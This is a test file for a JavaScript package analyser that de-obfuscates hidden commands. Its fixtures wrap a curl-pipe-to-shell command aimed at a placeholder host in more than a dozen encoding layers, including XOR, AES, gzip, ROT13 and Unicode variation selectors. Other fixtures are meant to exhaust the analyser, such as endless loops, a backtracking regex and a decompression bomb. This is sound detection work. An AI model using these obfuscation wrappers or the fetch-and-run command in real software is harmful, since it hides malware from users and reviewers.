import { createCipheriv, createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { type FileReading, JavaScriptPackage } from '../../../src/extract/javascript/package.js'

/** What one file gives; nothing of it runs. */
function read(source: string): FileReading {
  const files = { text: (path: string) => (path === 'index.js' ? source : undefined), resolve: () => undefined }
  for (const reading of new JavaScriptPackage(['index.js'], files, ['index.js']).read())
    if (reading.path === 'index.js') return reading
  throw new Error('not read')
}

const said = (source: string): string[] =>
  read(source).facts.map(
    ({ draft }) => `${draft.kind} ${draft.value}${draft.detail['decoded'] === true ? ' (decoded)' : ''}`,
  )

const COMMAND = 'curl -s https://cdn.tallow.example/a.sh | sh'
const SPAWN = `process.spawn ${COMMAND} (decoded)`

describe('the output of javascript-obfuscator 4', () => {
  // Written by it from one harmless program, with these of its options: a turned table plain, in base64 and in RC4 with
  // wrappers and split texts, and with flattened control flow and stand-ins for calls.
  it.each(['default', 'base64', 'rc4', 'flattened'])('is read as if it were written plainly: %s', (name) => {
    const facts = said(readFileSync(new URL(`fixtures/${name}.txt`, import.meta.url), 'utf8'))
    expect(facts).toContain('process.spawn curl -s https://cdn.tallow-metrics.example/run.sh | sh (decoded)')
    expect(facts).toContain('net.egress POST collect.tallow-metrics.example (decoded)')
    expect(facts).toContain('data.flow env:* -> net:collect.tallow-metrics.example (decoded)')
    expect(facts).toContain('code.obfuscated hidden-text')
  })
})

const bytes = [...Buffer.from(COMMAND)]
const base64 = Buffer.from(COMMAND).toString('base64')
const hex = Buffer.from(COMMAND).toString('hex')
const xored = (by: readonly number[]): number[] => bytes.map((byte, i) => byte ^ (by[i % by.length] ?? 0))
const key = createHash('sha256').update('k').digest()
const cipher = createCipheriv('aes-256-cbc', key, key.subarray(0, 16))
const sealed = cipher.update(COMMAND, 'utf8', 'hex') + cipher.final('hex')
const rot13 = COMMAND.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 84) % 26) + 97))
const alphabet = 'abcdefghijklmnopqrstuvwxyz:/.-| '

/** Statements before the call, and the expression that gives the command. */
const LAYERS: Readonly<Record<string, readonly [string, string]>> = {
  'base64 twice': ['', `atob(atob('${Buffer.from(base64).toString('base64')}'))`],
  'hex through a function': [
    `function d(h, k) { let out = ''; for (let i = 0; i < h.length; i += 2) out += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ k); return out }`,
    `d('${Buffer.from(xored([42])).toString('hex')}', 0x2a)`,
  ],
  'hex in pairs': ['', `'${hex}'.match(/.{2}/g).map((h) => String.fromCharCode(parseInt(h, 16))).join('')`],
  'codes, turned': ['', `String.fromCharCode(...[${xored([7])}].map((c) => c ^ 7))`],
  'a loop with a key': [
    `const a = [${xored([7, 19, 3])}], k = [7, 19, 3]; let s = ''; for (let i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ k[i % k.length])`,
    's',
  ],
  'pushed piece by piece': [
    `const p = []; const h = '${hex}'; for (var i = 0; i < h.length; i += 2) p.push(String.fromCharCode(parseInt(h.slice(i, i + 2), 16)))`,
    `p.join('')`,
  ],
  'an alphabet': [
    `const chars = '${alphabet}'`,
    `[${[...COMMAND].map((c) => alphabet.indexOf(c))}].map((i) => chars[i]).join('')`,
  ],
  ROT13: ['', `'${rot13}'.replace(/[a-z]/g, (c) => String.fromCharCode((c.charCodeAt(0) - 97 + 13) % 26 + 97))`],
  backwards: ['', `'${[...COMMAND].reverse().join('')}'.split('').reverse().join('')`],
  percents: ['', `decodeURIComponent('${hex.replace(/../g, '%$&')}')`],
  TextDecoder: ['', `new TextDecoder().decode(new Uint8Array([${bytes}]))`],
  gunzip: [
    `const zlib = require('zlib')`,
    `zlib.gunzipSync(Buffer.from('${gzipSync(COMMAND).toString('base64')}', 'base64')).toString()`,
  ],
  brotli: [
    '',
    `require('node:zlib').brotliDecompressSync(Buffer.from('${brotliCompressSync(COMMAND).toString('hex')}', 'hex')).toString('utf8')`,
  ],
  AES: [
    `const crypto = require('crypto'); const open = () => { const c = crypto.createDecipheriv('aes-256-cbc', Buffer.from('${key.toString('hex')}', 'hex'), Buffer.from('${key.subarray(0, 16).toString('hex')}', 'hex')); return c.update('${sealed}', 'hex', 'utf8') + c.final('utf8') }`,
    'open()',
  ],
  'a class': [
    'class D { constructor(k) { this.k = k } run(a) { let s = ""; for (const c of a) s += String.fromCharCode(c ^ this.k); return s } }',
    `new D(5).run([${xored([5])}])`,
  ],
  'variation selectors': [
    `const open = (s) => [...s].map((c) => { const x = c.codePointAt(0); return x >= 0xfe00 && x <= 0xfe0f ? x - 0xfe00 : x - 0xe0100 + 16 })`,
    `Buffer.from(open('${bytes.map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join('')}')).toString('utf-8')`,
  ],
}

describe('layers of encoding', () => {
  it.each(Object.entries(LAYERS))('%s', (_name, [before, expression]) => {
    expect(said(`const cp = require('child_process')\n${before}\ncp.exec(${expression})`)).toContain(SPAWN)
  })

  it('reads a layer that is evaluated as code', () => {
    const packed = deflateSync(`require('child_process').exec('${COMMAND}')`).toString('base64')
    const facts = said(`eval(require('zlib').inflateSync(Buffer.from('${packed}', 'base64')).toString())`)
    expect(facts).toContain(`process.spawn ${COMMAND}`)
    expect(facts.some((each) => each.startsWith('code.eval decoded eval'))).toBe(true)
  })
})

describe('what is let be', () => {
  it.each<readonly [string, string]>([
    [
      'bytes that somebody fills',
      `const b = new Uint8Array(16); crypto.getRandomValues(b); fetch('/' + Array.from(b, (v) => ('0' + v.toString(16)).slice(-2)).join(''))`,
    ],
    [
      'a counter',
      `let n = 7; const next = () => { n = (n * 16807) % 2147483647; return String.fromCharCode(n % 26 + 97) }; fetch(next() + next() + next() + next() + next())`,
    ],
    ['what the outside gives', `const f = (t) => [...t].reverse().join(''); export const g = (x) => fetch(f(x))`],
    [
      'a regular expression of words',
      `const WORDS = ['alpha', 'beta', 'gamma', 'delta'].reverse(); new RegExp(WORDS.join('|'))`,
    ],
  ])('%s', (_name, source) => {
    expect(said(source).filter((each) => each.includes('(decoded)') || each.startsWith('code.obfuscated'))).toEqual([])
  })
})

describe('hostile input ends', () => {
  it.each<readonly [string, string]>([
    ['a loop without an end', `function d(s) { while (true) s = s.split('').reverse().join('') } eval(d('abcdef'))`],
    ['endless recursion', `function d(s) { return d(s + 'a') } eval(d('abcdef'))`],
    ['a text that doubles', `function d(s) { for (let i = 0; i < 99; i++) s += s; return s } eval(d('abcdef'))`],
    [
      'a list that doubles',
      `function d(a) { for (let i = 0; i < 99; i++) a = a.concat(a); return a.join('') } eval(d(['a', 'b', 'c', 'd']))`,
    ],
    ['an expression that backtracks', `eval('${'a'.repeat(40)}!'.replace(/(a+)+$/, 'b'))`],
    [
      'names of the host',
      `const o = {}; o.__proto__ = atob; o['constructor']['constructor']('x')(); eval([]['__proto__']['__defineGetter__'] + ''['toString']['call'](1))`,
    ],
    [
      'a table that never fits',
      `var t = ['a', 'b']; (function (x, n) { while (true) { if (parseInt(x[0]) === n) break; x.push(x.shift()) } })(t, 5); eval(t[0])`,
    ],
  ])('%s', (_name, source) => {
    expect(read(source).facts.some(({ draft }) => draft.kind === 'code.eval')).toBe(true)
  })

  // `why` is said of a search that takes longer than is waited for; one that goes in circles hangs wherever it runs.
  it.each<readonly [string, string | undefined, string]>([
    ['goes in circles', undefined, 'if (look(0) * -look(1) === 5) break'],
    ['counts up to its end', 'budget', 'if (++n > 9e6) break'],
    ['counts in a part of a sum that is no number', 'budget', 'if (look(0) * n++ === 5 || n > 9e6) break'],
    ['counts in a list', 'budget', 'if ((count[0] += 1) > 9e6) break'],
    ['counts in a member', 'budget', 'if (++box.n > 9e6) break'],
    ['counts in a function', 'budget', 'if (next() > 9e6) break'],
    ['throws at each turn', undefined, 'try { if (parseInt(none.x) === 5) break } catch (e) { x.push(x.shift()) }'],
  ])('of a table that is turned and never fits: its search %s', (_name, why, turn) => {
    const table = Array.from({ length: 40 }, (_, index) => `'t${index}'`)
    const reading = read(`function t() { const all = [${table}]; t = function () { return all }; return t() }
    (function (f) {
      const x = f(); let n = 0, none; const count = [0], box = { n: 0 }, next = (() => { let m = 0; return () => ++m })()
      const look = (at) => { at = at - 0; return parseInt(x[at]) }
      while (true) { ${turn}; x.push(x.shift()) }
    })(t, 5); eval(t()[0])`)
    expect([reading.failed?.why, reading.facts.some(({ draft }) => draft.kind === 'code.eval')]).toEqual([why, true])
  })

  it('says that a packed text which is too large was not analysed', () => {
    const bomb = gzipSync(Buffer.alloc(8 << 20, 32)).toString('base64')
    const reading = read(`eval(require('zlib').gunzipSync(Buffer.from('${bomb}', 'base64')).toString())`)
    expect(reading.failed?.why).toBe('budget')
  })
})
